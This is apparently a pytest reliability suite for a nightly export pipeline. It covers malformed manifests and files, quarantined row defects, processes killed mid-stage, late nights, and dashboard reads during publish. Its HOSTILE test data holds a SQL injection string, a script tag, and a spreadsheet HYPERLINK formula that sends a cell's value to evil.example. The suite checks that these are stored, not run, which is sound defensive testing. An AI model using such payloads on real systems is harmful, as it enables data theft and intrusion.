"""Reliability through the real DAG: bad exports, crashes, late nights, reads during publish.

One small generated export (150 freelancers, 60 clients, seed 7): night 1 is run once into a
baseline home; every case restores that home and runs night 2 in some broken way.

Structural problems (BAD_EXPORTS, one per kind of issue 7): night 2 is broken one way; the night
must fail with one sentence naming the file, column or rule, the serving database must stay
night 1's byte for byte, and no file of night 2 may be recorded as loaded.

Row-level problems (ROW_DEFECTS) all go into one messy but valid night 2 that must publish: one
row (with an id of its own) per kind the loader must quarantine, and per kind that must load
unchanged (byte-order mark, CRLF and mixed line endings, an extra column, Korean, Cyrillic and
emoji names, a 5 MB message body, hostile text such as SQL, <script> and =HYPERLINK).

The promise checked after every case: the serving database is either the previous night's, byte
for byte (sha256), or the new night's with rows_loaded + rows_quarantined == the manifest's rows.
docs/reliability.md lists every case and its outcome.
"""

from __future__ import annotations

import contextlib
import csv
import gzip
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from export_factory import write_csv, write_manifest

from itw_radar.contract import TABLES
from itw_radar.orchestration import NightResult, airflow_env, run_nights
from itw_radar.paths import PAUSE_ENV, PAUSE_FILE_ENV, Home
from itw_radar.publishing import check_serving, publish

pytestmark = [pytest.mark.slow, pytest.mark.timeout(1800)]

N1, N2 = date(2026, 11, 1), date(2026, 11, 2)
NAMES = ["김정은 테스트", "Иван Петров", "Zoë 🚀 Ng"]
HOSTILE = ["'; DROP TABLE accounts; --", "<script>alert('x')</script>",
           '=HYPERLINK("http://evil.example/?q="&A1,"click")']
BIG_BODY = "x" * 5_000_000
MULTILINE_BODY = 'line one\nline "two"\r\nline, three'
# Provenance columns that differ between two runs of the same night.
VOLATILE = {"pipeline_runs": {"started_at", "finished_at", "summary"}, "load_files": {"load_id"}}


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _read(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        r = csv.DictReader(f)
        return list(r.fieldnames or []), list(r)


# ------------------------------------------------------------------------------ the messy night


@dataclass(frozen=True)
class Quarantined:
    """Rows the loader must set aside: found in raw.quarantine by one field of their record."""

    table: str
    field: str  # a field of the quarantined record that identifies the defect's rows
    value: str
    column: str  # the column and rule the quarantine row must name
    rule: str
    rows: int = 1


# Every row-level defect of issue 7 that the loader quarantines, as (table, new rows to append,
# where the quarantine must show it). Each new row copies the file's first row (identity
# documents: night 1's, night 2 has none) and changes only what the comment says.
def _quarantine_rows() -> dict[str, tuple[str, list[dict[str, str]], Quarantined]]:
    return {
        "null key": ("logins", [{"login_id": "", "user_agent": "rel-null-key"}],
                     Quarantined("logins", "user_agent", "rel-null-key", "login_id",
                                 "not_null")),
        "duplicate key, different content": (
            "messages", [{"message_id": "m_rel_dup", "body": "first version"},
                         {"message_id": "m_rel_dup", "body": "second version"}],
            Quarantined("messages", "message_id", "m_rel_dup", "message_id", "duplicate_key",
                        rows=2)),
        "exact duplicate row": (
            "interviews", [{"interview_id": "itv_rel_dup"}, {"interview_id": "itv_rel_dup"}],
            Quarantined("interviews", "interview_id", "itv_rel_dup", "interview_id",
                        "duplicate")),
        "enum outside the contract": (
            "logins", [{"login_id": "l_rel_enum", "ip_kind": "satellite"}],
            Quarantined("logins", "login_id", "l_rel_enum", "ip_kind", "enum")),
        "timestamp that does not parse": (
            "logins", [{"login_id": "l_rel_ts", "ts": "yesterday noon"}],
            Quarantined("logins", "login_id", "l_rel_ts", "ts", "type")),
        "date that does not parse": (
            "identity_documents", [{"document_id": "doc_rel_dob", "date_of_birth": "30/02/1990"}],
            Quarantined("identity_documents", "document_id", "doc_rel_dob", "date_of_birth",
                        "type")),
        "event years in the future": (
            "logins", [{"login_id": "l_rel_future", "ts": "2031-01-01T00:00:00Z"}],
            Quarantined("logins", "login_id", "l_rel_future", "ts", "future")),
        "ended_at before started_at": (
            "work_sessions", [{"session_id": "ses_rel_order", "ended_at": "2026-11-01T00:00:00Z"}],
            Quarantined("work_sessions", "session_id", "ses_rel_order", "ended_at", "order")),
        "updated_at before created_at": (
            "contracts", [{"contract_id": "ctr_rel_order", "updated_at": "2020-01-01T00:00:00Z"}],
            Quarantined("contracts", "contract_id", "ctr_rel_order", "updated_at", "order")),
        "IP 999.1.1.1": ("logins", [{"login_id": "l_rel_ip", "ip": "999.1.1.1"}],
                         Quarantined("logins", "login_id", "l_rel_ip", "ip", "format")),
        "hash of the wrong length": (
            "accounts", [{"account_id": "acc_rel_hash", "email_hash": "abc123"}],
            Quarantined("accounts", "account_id", "acc_rel_hash", "email_hash", "format")),
        "perceptual hash not hex": (
            "identity_documents", [{"document_id": "doc_rel_phash",
                                    "image_phash": "zz23456789abcdef"}],
            Quarantined("identity_documents", "document_id", "doc_rel_phash", "image_phash",
                        "format")),
        "rating of 0": ("reviews", [{"review_id": "r_rel_0", "rating": "0"}],
                        Quarantined("reviews", "review_id", "r_rel_0", "rating", "range")),
        "rating of 7": ("reviews", [{"review_id": "r_rel_7", "rating": "7"}],
                        Quarantined("reviews", "review_id", "r_rel_7", "rating", "range")),
        "negative amount": (
            "transactions", [{"transaction_id": "txn_rel_neg", "amount_usd": "-5.00"}],
            Quarantined("transactions", "transaction_id", "txn_rel_neg", "amount_usd", "range")),
        "NUL byte in a message": (
            "messages", [{"message_id": "m_rel_nul", "body": "a\x00b"}],
            Quarantined("messages", "message_id", "m_rel_nul", "body", "control_char")),
        "country not ISO (USA)": (
            "accounts", [{"account_id": "acc_rel_country", "country": "USA"}],
            Quarantined("accounts", "account_id", "acc_rel_country", "country", "format")),
        "unknown time zone": (
            "accounts", [{"account_id": "acc_rel_tz", "timezone": "Mars/Olympus"}],
            Quarantined("accounts", "account_id", "acc_rel_tz", "timezone", "format")),
        "boolean not true/false": (
            "logins", [{"login_id": "l_rel_bool", "success": "yes"}],
            Quarantined("logins", "login_id", "l_rel_bool", "success", "type")),
    }


QUARANTINED = {kind: q for kind, (_t, _r, q) in _quarantine_rows().items()}
MIXED_EOL_LINES = 3  # logins.csv: the header and the first data rows end in CRLF, the rest LF


def _make_messy(folder: Path) -> dict[str, int]:
    """Night 2 with one row per row-level defect, BOM/CRLF/extra column/unicode/hostile text."""
    appended: dict[str, list[dict[str, str]]] = {}
    for table, rows, _q in _quarantine_rows().values():
        appended.setdefault(table, []).extend(rows)
    for i, name in enumerate(NAMES + HOSTILE):
        appended["accounts"].append({"account_id": f"acc_rel_{i}", "display_name": name})
    for i, body in enumerate(HOSTILE):
        appended["messages"].append({"message_id": f"m_rel_{i}", "body": body})
    appended["messages"] += [{"message_id": "m_rel_big", "body": BIG_BODY},
                             {"message_id": "m_rel_nl", "body": MULTILINE_BODY}]

    for table, extra in appended.items():
        cols, rows = _read(folder / f"{table}.csv")
        template = rows[0] if rows else _read(folder.parent / N1.isoformat()
                                              / f"{table}.csv")[1][0]
        rows += [dict(template, **change) for change in extra]
        if table == "accounts":
            for r in rows:
                r["favourite_colour"] = "blue"  # a column the contract does not know
            cols = [*cols, "favourite_colour"]
        write_csv(folder / f"{table}.csv", rows, cols)

    # accounts.csv: a byte-order mark and CRLF line ends throughout.
    text = (folder / "accounts.csv").read_text(encoding="utf-8")
    (folder / "accounts.csv").write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode())
    # logins.csv: mixed line endings, CRLF on the first lines, LF after.
    lines = (folder / "logins.csv").read_text(encoding="utf-8").split("\n")
    (folder / "logins.csv").write_text("\r\n".join(lines[:MIXED_EOL_LINES]) + "\r\n"
                                       + "\n".join(lines[MIXED_EOL_LINES:]), encoding="utf-8")
    mode = json.loads((folder / "manifest.json").read_text())["mode"]
    return {n: f["rows"] for n, f in write_manifest(folder, N2, mode)["files"].items()}


# ------------------------------------------------------------------------------ fixtures


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from itw_radar.generator import generate

    out = tmp_path_factory.mktemp("rel") / "exports"
    generate(out, N1, 2, freelancers=150, clients=60, seed=7)
    _make_messy(out / N2.isoformat())
    return out


def _run(home: Home, exports: Path, night: date) -> list[NightResult]:
    return run_nights(home, exports, night, night, echo=lambda _line: None)


@pytest.fixture(scope="module")
def work(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The one path every DAG run of this module uses as its home.

    A home's Airflow metadata registers the serving Asset with the home's path in its URI, so a
    home copied to another path fails at publish ("inactive assets"); cases therefore restore
    a saved home into this same path instead of running in copies elsewhere.
    """
    return tmp_path_factory.mktemp("work") / "home"


def _restore(saved: Home, work: Path) -> Home:
    if work.exists():
        shutil.rmtree(work)
    shutil.copytree(saved.root, work, symlinks=True)
    return Home.resolve(work)


def _save(home: Home, to: Path) -> Home:
    shutil.move(home.root, to / "home")
    return Home.resolve(to / "home")


@pytest.fixture(scope="module")
def baseline(exports: Path, work: Path, tmp_path_factory: pytest.TempPathFactory) -> Home:
    """Night 1 published (saved copy): every case starts from this home."""
    home = Home.resolve(work)
    assert [r.status for r in _run(home, exports, N1)] == ["success"]
    return _save(home, tmp_path_factory.mktemp("baseline"))


@pytest.fixture(scope="module")
def reference(baseline: Home, exports: Path, work: Path,
              tmp_path_factory: pytest.TempPathFactory) -> Home:
    """Night 2 (messy but valid) run once, uninterrupted: what every re-run must reproduce."""
    home = _restore(baseline, work)
    results = _run(home, exports, N2)
    assert [r.status for r in results] == ["success"], results[-1].error
    return _save(home, tmp_path_factory.mktemp("reference"))


def _rows(path: Path, sql: str, params: list | None = None) -> list[tuple]:
    con = duckdb.connect(str(path), read_only=True)
    try:
        return con.execute(sql, params or []).fetchall()
    finally:
        con.close()


def marts(path: Path) -> dict[str, list[tuple]]:
    """Every serving table, volatile provenance columns left out, rows in order."""
    con = duckdb.connect(str(path), read_only=True)
    try:
        out = {}
        for (table,) in con.execute("SELECT table_name FROM information_schema.tables "
                                    "WHERE table_schema = 'main' ORDER BY 1").fetchall():
            cols = [c for (c,) in con.execute(
                "SELECT column_name FROM information_schema.columns WHERE table_schema = 'main' "
                "AND table_name = ? ORDER BY ordinal_position", [table]).fetchall()
                if c not in VOLATILE.get(table, set())]
            select = ", ".join(f'"{c}"' for c in cols)
            out[table] = con.execute(f'SELECT {select} FROM "{table}" ORDER BY ALL').fetchall()
        return out
    finally:
        con.close()


# ------------------------------------------------------------------------------ row level


def _manifest(folder: Path) -> dict:
    return json.loads((folder / "manifest.json").read_text())


def _manifest_rows(folder: Path) -> int:
    return sum(f["rows"] for f in _manifest(folder)["files"].values())


def test_messy_night_publishes_every_row_loaded_or_quarantined(reference: Home,
                                                                 exports: Path) -> None:
    folder = exports / N2.isoformat()
    runs = _rows(reference.serving, "SELECT status, rows_loaded, rows_quarantined "
                 "FROM pipeline_runs WHERE export_date = ?", [N2])
    assert runs and runs[0][0] == "success"
    assert runs[0][1] + runs[0][2] == _manifest_rows(folder)
    assert runs[0][2] == sum(q.rows for q in QUARANTINED.values())
    files = _rows(reference.serving, "SELECT file_name, rows_expected, rows_loaded, "
                  "rows_quarantined FROM load_files WHERE export_date = ?", [N2])
    manifest = _manifest(folder)["files"]
    assert {f[0] for f in files} == set(manifest)
    for name, expected, loaded, quarantined in files:
        assert expected == manifest[name]["rows"] == loaded + quarantined, name
        want = sum(q.rows for q in QUARANTINED.values() if f"{q.table}.csv" == name)
        assert quarantined == want, name  # nothing but the planted defects is set aside
    rules = _rows(reference.warehouse, "SELECT table_name, column_name, rule FROM raw.quarantine "
                  "WHERE export_date = ? ORDER BY ALL", [N2])
    assert rules == sorted((q.table, q.column, q.rule) for q in QUARANTINED.values()
                           for _ in range(q.rows))
    assert check_serving(reference.serving) == []


def _quarantined(db: Path, table: str, q: Quarantined) -> list[tuple]:
    return _rows(db, f"SELECT column_name, rule, reason, record FROM {table} "
                 "WHERE export_date = ? AND table_name = ? "
                 "AND json_extract_string(record, '$.' || ?) = ?",
                 [N2, q.table, q.field, q.value])


@pytest.mark.parametrize("kind", list(QUARANTINED))
def test_row_level_defect_is_quarantined_with_its_rule(kind: str, reference: Home) -> None:
    q = QUARANTINED[kind]
    for db, table in ((reference.warehouse, "raw.quarantine"), (reference.serving, "quarantine")):
        got = _quarantined(db, table, q)
        assert len(got) == q.rows, (table, got)
        for column, rule, reason, _record in got:
            assert (column, rule) == (q.column, q.rule), (table, reason)
            assert f"{q.column}: " in reason and f"[{q.rule}]" in reason, reason
    # The defect's row reached neither the raw table nor dbt (an exact duplicate: one copy did).
    loaded = _rows(reference.warehouse, f"SELECT count(*) FROM raw.{q.table} "
                   f"WHERE _export_date = ? AND CAST(\"{q.field}\" AS VARCHAR) = ?",
                   [N2, q.value])[0][0]
    assert loaded == (1 if q.rule == "duplicate" else 0)


def _staged(home: Home, table: str, key: str, column: str, like: str) -> dict[str, object]:
    return dict(_rows(home.warehouse, f"SELECT {key}, {column} FROM staging.stg_{table} "
                      f"WHERE {key} LIKE ?", [like]))


def _file_lines(home: Home, table: str, lines: list[int]) -> list[str]:
    return [r[0] for r in _rows(home.warehouse, f"SELECT {TABLES[table].key} FROM raw.{table} "
                                "WHERE _export_date = ? AND _line IN "
                                f"({', '.join(map(str, lines))}) ORDER BY _line", [N2])]


def _first_ids(exports: Path, table: str, n: int) -> list[str]:
    return [r[TABLES[table].key] for r in _read(exports / N2.isoformat() / f"{table}.csv")[1][:n]]


def _loads_bom_and_crlf(home: Home, exports: Path) -> None:
    # The first column's name carries the BOM and every last value a CR: both must be stripped
    # (else account_id is "missing" and status is "not an enum"). Every row but the planted
    # defects loads, at its line, with its id.
    sent = [r["account_id"] for r in _read(exports / N2.isoformat() / "accounts.csv")[1]]
    bad = {q.value for q in QUARANTINED.values() if q.table == "accounts"}
    loaded = _rows(home.warehouse, "SELECT _line, account_id FROM raw.accounts "
                   "WHERE _export_date = ? ORDER BY _line", [N2])
    assert loaded == [(i, a) for i, a in enumerate(sent, start=1) if a not in bad]
    status = _staged(home, "accounts", "account_id", "status", sent[0])
    assert status[sent[0]] in TABLES["accounts"].column("status").values


def _loads_mixed_line_endings(home: Home, exports: Path) -> None:
    n = MIXED_EOL_LINES  # CRLF lines: the header, data rows 1..n-1; LF after
    ids = _first_ids(exports, "logins", n + 1)
    assert _file_lines(home, "logins", list(range(1, n + 2))) == ids
    staged = dict(_rows(home.warehouse, "SELECT login_id, success FROM staging.stg_logins "
                        "WHERE login_id IN (?, ?, ?, ?)", ids))
    assert set(staged) == set(ids) and all(isinstance(v, bool) for v in staged.values())


def _loads_unicode_names(home: Home, exports: Path) -> None:
    ids = [f"acc_rel_{i}" for i in range(len(NAMES))]
    for got in (_staged(home, "accounts", "account_id", "display_name", "acc_rel_%"),
                dict(_rows(home.warehouse, "SELECT account_id, display_name FROM raw.accounts "
                           "WHERE account_id LIKE 'acc_rel_%'")),
                dict(_rows(home.serving, "SELECT account_id, display_name FROM account_profile "
                           "WHERE account_id LIKE 'acc_rel_%'"))):
        assert [got.get(i) for i in ids] == NAMES


def _loads_extra_column(home: Home, exports: Path) -> None:
    raw_cols = {c for (c,) in _rows(home.warehouse, "SELECT column_name FROM "
                                     "information_schema.columns WHERE table_schema = 'raw' "
                                     "AND table_name = 'accounts'")}
    assert "favourite_colour" not in raw_cols and set(TABLES["accounts"].column_names) <= raw_cols
    sent = _read(exports / N2.isoformat() / "accounts.csv")[1]
    assert all(r["favourite_colour"] == "blue" for r in sent)
    loaded = _rows(home.warehouse, "SELECT count(*) FROM raw.accounts WHERE _export_date = ?",
                   [N2])[0][0]
    assert loaded == len(sent) - sum(q.rows for q in QUARANTINED.values()
                                     if q.table == "accounts")


def _loads_big_body(home: Home, exports: Path) -> None:
    for table in ("raw.messages", "staging.stg_messages"):
        got = _rows(home.warehouse, f"SELECT length(body), body = ? FROM {table} "
                    "WHERE message_id = 'm_rel_big'", [BIG_BODY])
        assert got == [(len(BIG_BODY), True)], table


def _loads_multiline_body(home: Home, exports: Path) -> None:
    assert _staged(home, "messages", "message_id", "body", "m_rel_nl") == {
        "m_rel_nl": MULTILINE_BODY}


def _loads_hostile_text(home: Home, exports: Path) -> None:
    ids = [f"acc_rel_{i}" for i in range(len(NAMES), len(NAMES) + len(HOSTILE))]
    for db, table in ((home.warehouse, "raw.accounts"), (home.serving, "account_profile")):
        got = dict(_rows(db, f"SELECT account_id, display_name FROM {table} "
                         "WHERE account_id LIKE 'acc_rel_%'"))
        assert [got.get(i) for i in ids] == HOSTILE, (db, table)
    bodies = _staged(home, "messages", "message_id", "body", "m_rel_%")
    assert [bodies.get(f"m_rel_{i}") for i in range(len(HOSTILE))] == HOSTILE
    # The statement in the name was stored, not run: the tables are all there.
    assert _rows(home.serving, "SELECT count(*) FROM account_profile")[0][0] > 200


LOADED_UNCHANGED: dict[str, Callable[[Home, Path], None]] = {
    "byte-order mark and CRLF line ends": _loads_bom_and_crlf,
    "mixed line endings": _loads_mixed_line_endings,
    "Korean, Cyrillic and emoji names": _loads_unicode_names,
    "extra unknown column": _loads_extra_column,
    "5 MB message body": _loads_big_body,
    "body with newlines, quotes and commas": _loads_multiline_body,
    "hostile text (SQL, <script>, =HYPERLINK)": _loads_hostile_text,
}


@pytest.mark.parametrize("kind", list(LOADED_UNCHANGED))
def test_row_level_oddity_loads_unchanged(kind: str, reference: Home, exports: Path) -> None:
    LOADED_UNCHANGED[kind](reference, exports)


def test_every_file_under_home_is_owner_only_after_a_night(reference: Home) -> None:
    # cosmos copies dbt's own metadata (manifest.json, partial_parse.msgpack: the dbt project,
    # no exported data) into its cache keeping the repository's file modes; the folder is 0700.
    cache = reference.airflow / "cosmos"
    assert not cache.exists() or cache.stat().st_mode & 0o077 == 0
    loose = [str(p) for p in [reference.root, *reference.root.rglob("*")]
             if not p.is_symlink() and p.stat().st_mode & 0o077
             and not (cache in p.parents and p.name in ("manifest.json",
                                                        "partial_parse.msgpack"))]
    assert loose == []


# ------------------------------------------------------------------------------ structural
# Each breaker changes night 2 one way and returns the phrase the night's error must contain.


def _remanifest(folder: Path, rows: dict[str, int] | None = None) -> None:
    write_manifest(folder, N2, _manifest(folder)["mode"], rows)


def _rows_of(folder: Path, name: str) -> int:
    return _manifest(folder)["files"][name]["rows"]


def _no_manifest(folder: Path) -> str:
    (folder / "manifest.json").unlink()
    return f"the export never arrived: {folder / 'manifest.json'} does not exist"


def _bad_json(folder: Path) -> str:
    (folder / "manifest.json").write_text('{"contract_version": "1.0", ')
    return "manifest.json: not valid JSON"


def _unknown_version(folder: Path) -> str:
    m = _manifest(folder)
    m["contract_version"] = "9.9"
    (folder / "manifest.json").write_text(json.dumps(m))
    return "manifest.json: contract_version '9.9' is not supported"


def _wrong_date(folder: Path) -> str:
    m = _manifest(folder)
    m["export_date"] = N1.isoformat()
    (folder / "manifest.json").write_text(json.dumps(m))
    return f"export_date '{N1}' is not the folder's date {N2}"


def _listed_missing(folder: Path) -> str:
    (folder / "reviews.csv").unlink()
    return "file reviews.csv: listed in the manifest but absent from the folder"


def _unlisted_present(folder: Path) -> str:
    shutil.copy(folder / "reviews.csv", folder / "reviews_old.csv")
    return "file reviews_old.csv: present in the folder but not listed in the manifest"


def _count_off(folder: Path) -> str:
    m = _manifest(folder)
    n = m["files"]["logins.csv"]["rows"]
    m["files"]["logins.csv"]["rows"] = n + 1
    (folder / "manifest.json").write_text(json.dumps(m))
    return f"file logins.csv: holds {n} data rows but the manifest says {n + 1}"


def _checksum_off(folder: Path) -> str:
    with (folder / "logins.csv").open("a", encoding="utf-8") as f:
        f.write(f"l_extra,acc_00000001,{N2}T05:00:00Z,203.0.113.9,US,64500,residential,d,ua,"
                "true\n")
    return "file logins.csv: SHA-256 differs from the manifest"


def _truncated_csv(folder: Path) -> str:
    n = _rows_of(folder, "logins.csv")
    text = (folder / "logins.csv").read_text(encoding="utf-8")
    cut = text[: text.rindex("\n", 0, len(text) - 1) + 20]  # the last row breaks off mid-field
    (folder / "logins.csv").write_text(cut, encoding="utf-8")
    _remanifest(folder, {"logins.csv": n})  # checksum of the cut file: the sender's view
    fields = len(cut.rsplit("\n", 1)[1].split(","))
    return (f"file logins.csv, data row {n}: has {fields} fields but the header has "
            f"{len(TABLES['logins'].columns)}; the file is truncated")


def _corrupt_gzip(folder: Path) -> str:
    rows = _rows_of(folder, "logins.csv")
    data = gzip.compress((folder / "logins.csv").read_bytes())
    (folder / "logins.csv").unlink()
    (folder / "logins.csv.gz").write_bytes(data[: len(data) // 2])
    _remanifest(folder, {"logins.csv.gz": rows})
    return "file logins.csv.gz: unreadable"


def _header_only(folder: Path) -> str:
    n = _rows_of(folder, "logins.csv")
    write_csv(folder / "logins.csv", [], list(TABLES["logins"].column_names))
    _remanifest(folder, {"logins.csv": n})
    return f"file logins.csv: holds 0 data rows but the manifest says {n}"


def _missing_column(folder: Path) -> str:
    cols, rows = _read(folder / "reviews.csv")
    write_csv(folder / "reviews.csv", rows, [c for c in cols if c != "rating"])
    _remanifest(folder)
    return "file reviews.csv, column rating: required column missing"


def _renamed_column(folder: Path) -> str:
    text = (folder / "logins.csv").read_text(encoding="utf-8").replace("account_id", "user_id", 1)
    (folder / "logins.csv").write_text(text, encoding="utf-8")
    _remanifest(folder)
    return "file logins.csv, column account_id: required column missing"


def _parquet_wrong_type(folder: Path) -> str:
    _cols, rows = _read(folder / "reviews.csv")
    (folder / "reviews.csv").unlink()
    table = pa.table({c: [r[c] for r in rows] for c in TABLES["reviews"].column_names})
    # Strings may hold any contract type (contract 1.1); a boolean never holds a decimal.
    table = table.set_column(table.schema.get_field_index("rating"), "rating",
                             pa.array([True] * len(rows)))
    pq.write_table(table, folder / "reviews.parquet")
    _remanifest(folder)
    return "file reviews.parquet, column rating: Parquet type BOOLEAN does not hold a contract"


def _not_what_extension_says(folder: Path) -> str:
    rows = _rows_of(folder, "reviews.csv")
    (folder / "reviews.csv").rename(folder / "reviews.parquet")  # a CSV named .parquet
    _remanifest(folder, {"reviews.parquet": rows})
    return "file reviews.parquet: not a readable Parquet file"


BAD_EXPORTS: dict[str, Callable[[Path], str]] = {
    "no manifest": _no_manifest,
    "manifest not valid JSON": _bad_json,
    "unknown contract version": _unknown_version,
    "export date not the folder's": _wrong_date,
    "listed file missing": _listed_missing,
    "unlisted file present": _unlisted_present,
    "row count off": _count_off,
    "checksum off": _checksum_off,
    "truncated CSV": _truncated_csv,
    "corrupt gzip": _corrupt_gzip,
    "header only, rows promised": _header_only,
    "required column missing": _missing_column,
    "required column renamed": _renamed_column,
    "Parquet column of the wrong type": _parquet_wrong_type,
    "file not what its extension says": _not_what_extension_says,
}


@pytest.mark.parametrize("case", list(BAD_EXPORTS))
def test_bad_export_leaves_the_previous_night_byte_identical(
        case: str, baseline: Home, exports: Path, work: Path, tmp_path: Path) -> None:
    home = _restore(baseline, work)
    before = sha(home.serving)
    bad = tmp_path / "exports"
    shutil.copytree(exports / N2.isoformat(), bad / N2.isoformat())
    message = BAD_EXPORTS[case](bad / N2.isoformat())
    results = _run(home, bad, N2)
    assert [(r.export_date, r.status) for r in results] == [(N2, "failed")]
    error = results[0].error or ""
    assert message in error, error
    assert error.lower().startswith(f"night {N2}"), error
    assert "\n" not in error
    assert sha(home.serving) == before
    assert _rows(home.warehouse, "SELECT count(*) FROM raw.load_files WHERE export_date = ?",
                 [N2]) == [(0,)]
    # The failure is on record for the dashboard's run history once a later night publishes.
    failed = _rows(home.warehouse, "SELECT error FROM raw.load_log WHERE export_date = ? "
                   "AND step = 'failed'", [N2])
    assert [e for (e,) in failed] == [error]


# ------------------------------------------------------------------------------ crashes


def _child(home: Home, exports: Path, night: date, log: Path,
           env_extra: dict[str, str]) -> subprocess.Popen:
    """The process `itw-radar run` starts for the nights, in its own process group."""
    env = airflow_env(home, exports)
    env.update(env_extra)
    cmd = [sys.executable, "-m", "itw_radar.orchestration", "nights", "--home", str(home.root),
           "--exports", str(exports), "--from", night.isoformat(), "--to", night.isoformat()]
    with log.open("w") as out:
        return subprocess.Popen(cmd, env=env, stdout=out, stderr=subprocess.STDOUT,
                                cwd=str(home.root), start_new_session=True)


def _newer_files(folder: Path, since: float) -> int:
    if not folder.is_dir():
        return 0
    return sum(1 for p in folder.rglob("*") if p.is_file() and p.stat().st_mtime > since)


def _descendants(pid: int) -> set[int]:
    children: dict[int, list[int]] = {}
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                ppid = int((d / "stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            children.setdefault(ppid, []).append(int(d.name))
    out: set[int] = set()
    todo = [pid]
    while todo:
        for c in children.get(todo.pop(), []):
            if c not in out:
                out.add(c)
                todo.append(c)
    return out


def _kill_tree(proc: subprocess.Popen) -> None:
    """SIGKILL the night's process and every process it started, even in other sessions.

    Airflow task runners and cosmos' dbt run in sessions of their own: a kill of the process
    group alone leaves them running (and holding the warehouse lock) until they finish.
    """
    pids = {proc.pid}
    for _ in range(3):  # freeze the tree first, so nothing new starts while it is killed
        pids |= _descendants(proc.pid)
        for p in pids:
            with contextlib.suppress(ProcessLookupError):
                os.kill(p, signal.SIGSTOP)
    pids |= _descendants(proc.pid)
    for p in pids:
        with contextlib.suppress(ProcessLookupError):
            os.kill(p, signal.SIGKILL)
    proc.wait()
    for p in pids - {proc.pid}:  # orphans are reaped by init
        deadline = time.monotonic() + 60
        while Path(f"/proc/{p}").exists() and time.monotonic() < deadline:
            try:
                if (Path(f"/proc/{p}") / "stat").read_text().rsplit(")", 1)[1].split()[0] == "Z":
                    break
            except OSError:
                break
            time.sleep(0.1)


def _kill_when(proc: subprocess.Popen, ready: Callable[[], bool], what: str, log: Path) -> None:
    """SIGKILL the whole process group once `ready()`; a hang guard, not a timing assertion."""
    deadline = time.monotonic() + 600
    while not ready():
        if proc.poll() is not None:
            pytest.fail(f"the night ended (code {proc.returncode}) before {what}; see "
                        f"{log}:\n{log.read_text()[-3000:]}")
        if time.monotonic() > deadline:
            _kill_tree(proc)
            pytest.fail(f"never reached {what}; see {log}")
        time.sleep(0.2)
    _kill_tree(proc)


def _assert_still_previous_night(home: Home, serving_sha: str) -> None:
    assert sha(home.serving) == serving_sha
    assert check_serving(home.serving) == []
    assert _rows(home.serving, "SELECT max(as_of_date) FROM account_risk") == [(N1,)]
    # The warehouse opens for writing after the kill (DuckDB replays or drops its WAL).
    con = duckdb.connect(str(home.warehouse))
    try:
        assert con.execute("SELECT count(*) FROM raw.load_log WHERE export_date = ?",
                           [N1]).fetchone()[0] > 0
    finally:
        con.close()


def test_killed_nights_keep_the_previous_night_and_a_rerun_matches_an_uninterrupted_run(
        baseline: Home, reference: Home, exports: Path, work: Path, tmp_path: Path) -> None:
    home = _restore(baseline, work)
    before = sha(home.serving)
    marker = tmp_path / "paused"
    gx_night = home.gx / "uncommitted" / "validations"
    dbt_compiled = home.airflow / "dbt_target"

    stages: list[tuple[str, dict[str, str], Callable[[float], bool]]] = [
        # inside the load transaction, after the first file's rows were inserted
        ("load", {PAUSE_ENV: "load"}, lambda t0: marker.exists()),
        # Great Expectations has written results for some tables of the night
        ("validate", {}, lambda t0: _newer_files(gx_night, t0) >= 3),
        # dbt build has compiled and run a number of models, not all
        ("dbt", {}, lambda t0: _newer_files(dbt_compiled / "run", t0) >= 10),
        # the new serving file is complete, os.replace not yet done
        ("publish", {PAUSE_ENV: "publish"}, lambda t0: marker.exists()),
    ]
    for stage, extra, ready in stages:
        marker.unlink(missing_ok=True)
        log = tmp_path / f"killed-at-{stage}.log"
        t0 = time.time()
        proc = _child(home, exports, N2, log, {**extra, PAUSE_FILE_ENV: str(marker)})
        _kill_when(proc, lambda t0=t0, ready=ready: ready(t0), stage, log)
        _assert_still_previous_night(home, before)

    leftovers = [p.name for p in home.serving_dir.iterdir() if p.name != "radar.duckdb"]
    assert leftovers, "the publish kill should have left a half-published temporary file"
    results = _run(home, exports, N2)
    assert [r.status for r in results] == ["success"], results[-1].error
    assert [p.name for p in home.serving_dir.iterdir()] == ["radar.duckdb"]
    got, want = marts(home.serving), marts(reference.serving)
    for table in ("account_risk", "account_indicator_hits"):
        assert got[table] == want[table], table
    assert got == want, {t for t in want if got.get(t) != want[t]}


# ------------------------------------------------------------------------------ late nights


def test_a_night_older_than_the_published_one_is_refused(reference: Home, exports: Path,
                                                         work: Path) -> None:
    home = _restore(reference, work)
    before = sha(home.serving)
    results = _run(home, exports, N1)  # re-delivered / late: night 2 is already published
    assert [(r.export_date, r.status) for r in results] == [(N1, "failed")]
    error = results[0].error or ""
    assert "refused" in error and str(N2) in error and "ITW_RADAR_REPROCESS=1" in error, error
    assert sha(home.serving) == before


# ------------------------------------------------------------------------------ reads


def test_dashboard_reads_never_error_while_nights_are_published(reference: Home,
                                                                tmp_path: Path) -> None:
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
    from dashboard import data

    home = _restore(reference, tmp_path / "home")
    stop = threading.Event()
    errors: list[BaseException] = []
    reads = {"ok": 0, "replaced": 0}

    def reader() -> None:
        while not stop.is_set():
            snap = data.snapshot(home)
            assert snap is not None
            try:
                n = data._fetch(snap, "SELECT count(*) AS n FROM account_risk "
                                "WHERE risk_tier IN (?, ?, ?, ?)",
                                ("high", "medium", "low", "none"))["n"][0]
                assert n > 200
                reads["ok"] += 1
            except data.ServingReplaced:
                reads["replaced"] += 1  # the app reruns on the new file
            except BaseException as exc:  # noqa: BLE001 - collected and asserted below
                errors.append(exc)
                return

    threads = [threading.Thread(target=reader) for _ in range(2)]
    for t in threads:
        t.start()
    try:
        for _ in range(6):
            publish(home, N2)
    finally:
        stop.set()
        for t in threads:
            t.join()
    assert errors == []
    assert reads["ok"] > 0
